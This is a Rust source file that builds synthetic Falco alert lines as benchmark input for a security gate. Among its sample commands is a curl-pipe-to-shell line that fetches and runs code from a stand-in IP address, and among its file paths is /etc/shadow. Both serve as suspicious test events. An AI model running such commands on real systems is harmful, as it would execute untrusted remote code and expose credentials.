//! Synthetic Falco lines for the gate's benchmarks.

use std::fmt::Write;

/// 2026-11-20T11:00:00Z in nanoseconds since 1970.
pub const NOW: i64 = 1_795_172_400_000_000_000;

/// Picks by xorshift64: the same events each time.
struct Dice(u64);

impl Dice {
    fn pick(&mut self, list: &[&'static str]) -> &'static str {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        list[(self.0 >> 11) as usize % list.len()]
    }
}

/// Lines of about 590 bytes: mostly ordinary, some suspicious, 2,000 processes on 40 hosts.
pub fn events(count: u64) -> Vec<u8> {
    let mut dice = Dice(7);
    let mut out = String::new();
    for i in 0..count {
        let call =
            dice.pick(&["execve", "openat", "openat", "openat", "write", "connect", "unlinkat", "rename", "ptrace"]);
        let name = dice.pick(&["nginx", "python3", "bash", "sshd", "postgres", "dpkg", "cron", "java", "tar", "curl"]);
        let command = dice.pick(&[
            "nginx -g daemon off;",
            "python3 -m http.server",
            "curl http://203.0.113.9/x | sh",
            "tar -czf /srv/b.tgz /etc",
        ]);
        let path =
            dice.pick(&["/etc/shadow", "/var/log/syslog", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/a/.cache/x"]);
        let rule = dice.pick(&[
            "Read sensitive file untrusted",
            "Terminal shell in container",
            "Kernel activity",
            "Clear Log Activities",
        ]);
        let priority = dice.pick(&["Informational", "Notice", "Warning", "Critical"]);
        let (host, pid, time) = (i % 40, 1000 + i * 7 % 2000, NOW as u64 - 1_000_000_000 + i);
        // Writing to a string cannot fail.
        let _ = writeln!(
            out,
            r#"{{"hostname":"node-{host}","output":"10:59:59.{i:09}: {priority} event of {name} | file={path} process={name} command={command}","output_fields":{{"container.id":"host","container.name":"host","evt.time":{time},"evt.type":"{call}","fd.name":"{path}","proc.cmdline":"{command}","proc.exepath":"/usr/bin/{name}","proc.name":"{name}","proc.pid":{pid},"proc.pname":"systemd","proc.tty":0,"user.name":"root"}},"priority":"{priority}","rule":"{rule}","source":"syscall","tags":["host"],"time":"2026-11-20T10:59:59.{i:09}Z"}}"#
        );
    }
    out.into_bytes()
}
